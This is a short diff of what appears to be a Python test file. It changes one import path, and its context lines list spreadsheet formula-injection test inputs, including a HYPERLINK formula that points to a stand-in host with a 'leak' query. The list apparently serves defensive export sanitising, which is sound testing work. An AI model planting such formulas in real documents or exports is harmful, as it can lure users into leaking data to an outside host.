@@ -14,7 +14,7 @@ from apphelpers import assert_clean
 
 from figures.export import FORMULA_START
 from i18n import t
-from ui.settings import minilm_available
+from ui.page.settings import minilm_available
 
 FORMULAS = ['=HYPERLINK("http://x.example/?leak","click")', "+SUM(1)", "@SUM(", "-1+2"]
 TEXT = " ".join(FORMULAS)
